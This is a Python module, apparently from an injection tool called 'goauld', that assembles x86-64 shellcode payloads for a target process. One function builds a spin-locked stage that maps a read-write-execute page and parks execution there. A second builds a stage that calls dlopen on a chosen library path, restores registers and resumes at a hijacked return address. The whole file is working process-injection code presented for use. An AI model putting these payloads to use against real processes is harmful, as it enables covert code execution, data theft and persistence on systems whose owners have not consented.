"""Payloads for x86-64 targets, assembled to machine code."""

from __future__ import annotations

import logging
import struct

from goauld.errors import ShellcodeError

log = logging.getLogger(__name__)

RTLD_NOW = 0x2
_NOP = 0x90

(_RAX, _RCX, _RDX, _RBX, _RSP, _RBP, _RSI, _RDI,
 _R8, _R9, _R10, _R11, _R12, _R13, _R14, _R15) = range(16)

_SAVED = (_RAX, _RBX, _RCX, _RDX, _RBP, _RSI, _RDI,
          _R8, _R9, _R10, _R11, _R12, _R13, _R14, _R15)


def _simm32(value: int) -> bytes:
    if not -(1 << 31) <= value < 1 << 31:
        raise ShellcodeError(f"value 0x{value:x} does not fit in a signed 32-bit immediate")
    return struct.pack("<i", value)


def _qword(value: int) -> bytes:
    if not -(1 << 63) <= value < 1 << 64:
        raise ShellcodeError(f"value 0x{value:x} does not fit in 64 bits")
    return (value & ((1 << 64) - 1)).to_bytes(8, "little")


def _mov_r64(reg: int, value: int) -> bytes:
    return bytes([0x48 | reg >> 3, 0xC7, 0xC0 | reg & 7]) + _simm32(value)


def _push(reg: int) -> bytes:
    return (b"\x41" if reg >= 8 else b"") + bytes([0x50 + (reg & 7)])


def _pop(reg: int) -> bytes:
    return (b"\x41" if reg >= 8 else b"") + bytes([0x58 + (reg & 7)])


class _Assembler:
    def __init__(self) -> None:
        self._code = bytearray()
        self._labels: dict[str, int] = {}
        self._fixups: list[tuple[int, str]] = []

    def label(self, name: str) -> None:
        self._labels[name] = len(self._code)

    def emit(self, *chunks: bytes) -> None:
        for chunk in chunks:
            self._code += chunk

    def rel32(self, opcode: bytes, label: str) -> None:
        self._code += opcode
        self._fixups.append((len(self._code), label))
        self._code += bytes(4)

    def align(self, alignment: int) -> None:
        self._code += bytes([_NOP]) * (-len(self._code) % alignment)

    def finalize(self) -> bytes:
        for pos, label in self._fixups:
            struct.pack_into("<i", self._code, pos, self._labels[label] - (pos + 4))
        return bytes(self._code)


def first_shellcode(var_addr: int, alloc_len: int) -> bytes:
    """Spin-locked stage that maps an RWX page, parks on it and publishes its address."""
    log.debug("creating first_shellcode x64")
    asm = _Assembler()
    asm.label("start")
    asm.emit(_push(_RAX))
    asm.rel32(b"\x48\x8b\x05", "var_addr")  # mov rax, [var_addr]
    asm.emit(b"\xf0\x0f\xba\x28\x00")  # lock bts dword [rax], 0
    asm.rel32(b"\x0f\x82", "start")
    asm.emit(_pop(_RAX))
    asm.emit(*(_push(reg) for reg in _SAVED))

    # mmap(NULL, alloc_len, RWX, MAP_PRIVATE | MAP_ANON, 0, 0)
    asm.emit(
        _mov_r64(_RAX, 0x9),
        _mov_r64(_RDI, 0),
        _mov_r64(_RSI, alloc_len),
        _mov_r64(_RDX, 0x7),
        _mov_r64(_R10, 0x22),
        _mov_r64(_R8, 0),
        _mov_r64(_R9, 0),
        b"\x0f\x05",
    )

    asm.emit(b"\x0c\x01")  # or al, 1
    asm.rel32(b"\x48\x8b\x1d", "var_addr")  # mov rbx, [var_addr]
    asm.emit(
        b"\x48\x89\x03",  # mov [rbx], rax
        b"\x30\xc0",  # xor al, al
        b"\xc7\x00" + _simm32(0xFEEB),  # mov dword [rax], jmp $
        b"\xff\xe0",  # jmp rax
    )

    asm.align(4)
    asm.label("var_addr")
    asm.emit(_qword(var_addr))
    asm.align(4)
    asm.emit(_qword(alloc_len))
    return asm.finalize()


def raw_dlopen_shellcode(
    dlopen_addr: int, dlopen_path: str | bytes, origin_hijack_addr: int
) -> bytes:
    """Stage that calls ``dlopen(path, RTLD_NOW)``, restores registers and resumes."""
    log.debug("raw_dlopen_shellcode x64 0x%x, 0x%x", dlopen_addr, origin_hijack_addr)
    path = dlopen_path.encode() if isinstance(dlopen_path, str) else bytes(dlopen_path)
    asm = _Assembler()
    asm.emit(_mov_r64(_RSI, RTLD_NOW))
    asm.rel32(b"\x48\x8d\x3d", "dlopen_path")  # lea rdi, [dlopen_path]
    asm.emit(b"\x48\xb8" + _qword(dlopen_addr), b"\xff\xd0")  # movabs rax; call rax
    asm.emit(*(_pop(reg) for reg in reversed(_SAVED)))
    asm.rel32(b"\xff\x35", "origin_hijack_addr")  # push qword [origin_hijack_addr]
    asm.emit(b"\xc3")

    asm.align(4)
    asm.emit(_qword(RTLD_NOW))
    asm.label("dlopen_path")
    asm.emit(path + b"\0")
    asm.align(4)
    asm.emit(_qword(dlopen_addr))
    asm.align(4)
    asm.label("origin_hijack_addr")
    asm.emit(_qword(origin_hijack_addr))
    return asm.finalize()